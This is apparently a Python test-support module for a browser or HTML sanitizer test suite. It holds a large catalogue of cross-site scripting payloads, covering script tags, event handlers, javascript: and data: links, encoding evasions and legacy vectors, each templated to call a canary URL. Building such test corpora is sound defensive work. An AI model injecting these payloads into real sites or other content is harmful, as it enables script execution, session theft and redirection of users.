"""HTML that tries to run script or to fetch something from where it is read: known techniques, written anew.

`{js}` stands for a program that reports itself, `{url}` for an address that reports whoever asks for it.
"""

from tests.browser.hostile_calls import FETCHES, STYLES
from tests.browser.hostile_mutations import DEEP, MUTATIONS

JS = "(new(Image)).src=`{url}`,console.log(`it-ran`)"
"""Needs neither quotes nor blanks nor angle brackets, so it stands in any place."""

SCRIPTS = """
<script>{js}</script>
<SCRIPT type=text/javascript>{js}</SCRIPT>
<script src="{url}"></script>
<script/x src={url}></script >
<script type=module>{js}</script>
<script type=importmap>{"imports":{"a":"{url}"}}</script><script type=module>import "a"</script>
<scr<script>ipt>{js}</scr</script>ipt>
<script>{js}
<<script>{js}//<</script>
<script\f>{js}</script\f>
<!--><script>{js}</script>-->
<!-- --!><script>{js}</script> -->
<!--[if gte IE 4]><script>{js}</script><![endif]-->
<![CDATA[<script>{js}</script>]]>
<?xml-stylesheet href="javascript:{js}"?><script>{js}</script>
</title></textarea></style><script>{js}</script>
<template><script>{js}</script></template>
<div><template shadowrootmode=open><script>{js}</script><img src=x onerror={js}></template></div>
<svg><script>{js}</script></svg>
<svg><script href="{url}"/></svg>
<svg><script xlink:href=data:text/javascript,{js}></script></svg>
<math><script>{js}</script></math>
<noscript><script>{js}</script></noscript>
<noembed><script>{js}</script></noembed><plaintext><script>{js}</script>
<script>/*<!--*/{js}/*-->*/</script>
<svg><script>&#x28;new&#x28;Image&#x29;&#x29;&#x2e;src&#x3d;&#x60;{url}&#x60;</script></svg>
<script type=text/vbscript>MsgBox 1</script><script language=jscript>{js}</script>
<script async defer src=data:text/javascript,{js}></script>
<script crossorigin integrity src="//{host}/x"></script>
<svg><script type=text/javascript href=data:text/javascript,{js} /></svg>
<!--[if mso]><xml><o:x xmlns:o="urn:schemas-microsoft-com:office:office"><script>{js}</script></o:x></xml><![endif]-->
<![if !mso]><script>{js}</script><![endif]><!--[if !mso]><!--><img src=x onerror={js}><!--<![endif]-->
<?xml:namespace prefix=t ns="urn:schemas-microsoft-com:time"?><t:set attributename=innerhtml to="<script>{js}</script>">
<v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#VML)" onmouseover={js}>a</v:shape>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">{js}</h:script><html:img src=x onerror={js} />
<o:p><script>{js}</script></o:p><st1:place onmouseover={js}>a</st1:place>
<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-
<!doctype x [<!ENTITY y "<script>{js}</script>">]><p>&y;</p>
"""

HANDLERS = """
<img src=x onerror={js}>
<IMG SRC=x OnErRoR="{js}">
<img/src=x/onerror={js}//>
<img	src=x
onerror	=
"{js}">
<img src=x onerror=&#40;new&#40;Image&#41;&#41;&#46;src&#61;&#96;{url}&#96;>
<img src=x:x alt=``onerror={js}>
<img src="x` `<script>{js}</script>"` `>
<img title='a' onerror={js} src=x title="b">
<image src=x onerror={js}>
<img srcset=x onerror={js}>
<body onload={js}>
<body onpageshow={js} onfocus={js}>
<html onmouseover={js}><p>over here</html>
<frameset onload={js}><frame src=x></frameset>
<svg onload={js}>
<svg/onload={js}//
<svg><animate onbegin={js} attributeName=x dur=1s>
<svg><image href=x onerror={js}>
<input autofocus onfocus={js}>
<select autofocus onfocus={js}><option>a</select>
<textarea autofocus onfocus={js}>a</textarea>
<button autofocus onfocus={js}>a</button>
<p tabindex=1 autofocus onfocus={js}>a</p>
<details open ontoggle={js}><summary>a</summary>b</details>
<button popovertarget=p>a</button><div popover id=p onbeforetoggle={js}>b</div>
<video src=x onerror={js}></video>
<video><source src=x onerror={js}></video>
<audio src=x onerror={js} onloadstart={js}></audio>
<object data=x onerror={js}></object>
<iframe onload={js}></iframe>
<link rel=stylesheet href=x onerror={js}>
<style onload={js}>p{}</style>
<marquee onstart={js} onfinish={js} loop=1 width=0>a</marquee>
<p style="animation:x 1s" onanimationstart={js}>a</p><style>@keyframes x{}</style>
<p style="content-visibility:auto" oncontentvisibilityautostatechange={js}>a</p>
<p onpointerenter={js} onmouseover={js} onclick={js} onwheel={js}>a</p>
<a href=# onclick={js} onfocus={js}>a</a>
<xss onpointerover={js} contenteditable onblur={js}>a</xss>
<table onmouseover={js}><tr onclick={js}><td onfocus={js} tabindex=0>a</table>
<font color="x" onmouseover="{js}" size="7">a</font>
<p hx-on:load="{js}" hx-get="{url}" hx-trigger=load data-hx-get="{url}" hx-ext=x>a</p>
<div data-live="{url}" data-live-part id=said data-said=1>a</div>
<dialog open autofocus onfocus={js} onclose={js} oncancel={js}><form method=dialog><button
autofocus>a</button></form></dialog>
<button popovertarget=q autofocus onfocus={js}>a</button><p id=q popover=manual ontoggle={js}>b</p>
<button commandfor=d command=show-modal autofocus>a</button><dialog id=d onbeforetoggle={js} oncommand={js}>b</dialog>
<details name=d ontoggle={js}><summary autofocus onfocus={js}>a</summary>b</details>
<p contenteditable autofocus onfocus={js} oninput={js} onbeforeinput={js} onpaste={js}>a</p>
<p style="overflow:auto;height:9px" onscroll={js} onscrollend={js} tabindex=0 autofocus onfocusin={js}>a<br>b<br>c</p>
<p style="transition:color 1s" ontransitionrun={js} ontransitionend={js} onpointerrawupdate={js}>a</p>
<svg><set onbegin={js} attributeName=x to=1 begin=0s /><animateMotion onend={js} dur=1ms /><discard
onbegin={js} /></svg>
<svg><foreignObject><body onload={js}><img src=x onerror={js}></foreignObject></svg>
<svg><a onfocus={js} tabindex=0 autofocus><text y=9>a</text></a></svg>
<math><mtext onfocus={js} tabindex=0 autofocus>a</mtext></math>
<form onformdata={js} oninvalid={js} onreset={js}><input required autofocus onfocusin={js}><input
type=search onsearch={js}></form>
<slot onslotchange={js} onfocus={js} tabindex=0 autofocus>a</slot>
<body onhashchange={js} onmessage={js} onresize={js} onbeforeunload={js} onload={js}>
<img src=x onerror=import(`{url}`)>
<img src=x onerror="window.name=`it-ran`,location=`{url}`">
<img src=x onerror="open(`{url}`,`_top`)"><img src=x onerror="parent.location=`{url}`">
<img src=x onerror=alert(`it-ran`)>
<embed src=x onload={js} onerror={js}><applet onerror={js} code=x></applet>
<img src=x onload={js}onerror={js}><img src=x/onerror={js}/>
<xss id=x tabindex=1 onactivate={js} onfocus={js} autofocus style=display:block>a</xss>
"""

LINKS = """
<a href="javascript:{js}">a</a>
<a href="JaVaScRiPt:{js}">a</a>
<a href="java&Tab;script&colon;{js}">a</a>
<a href="java&NewLine;script:{js}">a</a>
<a href="&#1;javascript:{js}">a</a>
<a href=" &#14; javascript:{js}">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js}">a</a>
<a href="&#0000106avascript:{js}">a</a>
<a href="javascript://%0a{js}">a</a>
<a href="vbscript:MsgBox(1)">a</a>
<a href="data:text/html,<script>{js}</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+">a</a>
<a href="view-source:javascript:{js}">a</a>
<a href="blob:{url}">a</a>
<a xlink:href="javascript:{js}">a</a>
<svg><a href="javascript:{js}"><text y=20>a</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{js}"/><text y=20>a</text></a></svg>
<svg><set attributeName=onmouseover to="{js}"/></svg>
<math href="javascript:{js}">a</math>
<math><maction actiontype="statusline#{url}" xlink:href="javascript:{js}">a</maction></math>
<map name=m><area href="javascript:{js}" shape=default></map><img usemap=#m src=x>
<form action="javascript:{js}"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:{js}">a</button>
<form action="{url}" method=post><input name=a autofocus><input type=image src="{url}"></form>
<isindex action="javascript:{js}" type=image>
<base href="javascript:{js}//"><a href="#">a</a>
<iframe src="javascript:{js}"></iframe>
<iframe srcdoc="<script>{js}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>
<object data="javascript:{js}"></object>
<embed src="javascript:{js}">
<img src="javascript:{js}" lowsrc="javascript:{js}" dynsrc="javascript:{js}">
<table background="javascript:{js}"><tr><td background="javascript:{js}">a</table>
<link rel=stylesheet href="javascript:{js}">
<meta http-equiv=refresh content="0;url=javascript:{js}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">
<a href="/pile/" target=_top ping="{url}">a</a>
<a href="java&#x0A;script&#x09;:{js}">a</a>
<a href="javascript&#0058;{js}">a</a><a href="javascript&#x3a{js}">a</a>
<a href="&#x2028;javascript:{js}">a</a><a href="&#xA0;javascript:{js}">a</a>
<a href="javas&ZeroWidthSpace;cript:{js}">a</a><a href="javascript&#xFF1A;{js}">a</a>
<a href="j&#0;avascript:{js}">a</a><a href="&#x1F;&#x1B;javascript:{js}">a</a>
<a href="vb&#10;script:MsgBox(1)">a</a><a href="livescript:{js}">a</a><a href="mocha:{js}">a</a>
<a href="feed:javascript:{js}">a</a><a href="jar:{url}!/x">a</a><a href="intent:{url}#Intent;end">a</a>
<a href="search-ms:query=x&amp;crumb=location:{url}">a</a><a href="ms-word:ofe|u|{url}">a</a>
<a href="file://{host}/x">a</a><a href="\\\\{host}\\x">a</a><a href="ms-its:{url}::/x">a</a>
<a href="DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">a</a>
<a href="data&#x3A;text/html;charset=utf-7,+ADw-script+AD4-{js}+ADw-/script+AD4-">a</a>
<a href="blob:null/{url}">a</a><a href="filesystem:{url}">a</a><a href="about:srcdoc">a</a>
<a href="{url}" target=_top>a</a><a href="{url}" target=_parent rel=opener>a</a><a href="{url}" target=sent-1>a</a>
<a href="{url}" download=x.html type=text/html rel="opener prefetch">a</a>
<a href="{url}" target="<img src='{url}'
">a</a>
<a id=location href="javascript:{js}">a</a><a id=location name=href href="javascript:{js}">b</a>
<svg><animate href=#y attributeName=href to="javascript:{js}" fill=freeze /><a id=y><text y=9>a</text></a></svg>
<svg><a><set attributeName=xlink:href to="javascript:{js}"/><text y=9>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{js}'/>#x"/></svg>
<math><mrow href="javascript:{js}">a</mrow><mi xlink:href="javascript:{js}">b</mi></math>
<form><button formaction="javascript:{js}" autofocus>a</button><input type=submit formaction="javascript:{js}"></form>
<form action="{url}" target=_top><button formmethod=get formtarget=_parent>a</button></form>
<iframe srcdoc='<meta http-equiv=refresh content="0;url={url}">'></iframe>
<iframe src="data:text/html,<script>{js}</script>"></iframe><iframe src="java&Tab;script:{js}"></iframe>
<object type=text/html data="data:text/html,<script>{js}</script>"></object>
<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">
<object classid="clsid:x" codebase="{url}"><param name=src value="{url}"></object>
<base href="{url}" target=_top><a href=x>a</a><form><button>b</button></form>
"""

GROUPS = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "link": LINKS,
    "mutation": MUTATIONS,
    "deep": DEEP,
    "style": STYLES,
    "fetch": FETCHES,
}


def hostile_html(canary: str) -> dict[str, str]:
    """Return every piece by its name; what it runs or asks for tells its name to `canary`, an address of a server."""
    found: dict[str, str] = {}
    for group, pieces in GROUPS.items():
        for number, piece in enumerate(_pieces(pieces)):
            name = f"{group}-{number}"
            url = f"{canary}/{name}"
            host = canary.removeprefix("http://")
            found[name] = piece.replace("{js}", JS).replace("{url}", url).replace("{host}", host)
    return found


def _pieces(text: str) -> list[str]:
    """Return one piece a line; one that goes over several lines goes on where a line opens no element."""
    pieces: list[str] = []
    for line in text.strip("\n").split("\n"):
        if line.startswith(("<", "&")) or not pieces:
            pieces.append(line)
        else:
            pieces[-1] += f"\n{line}"
    return pieces
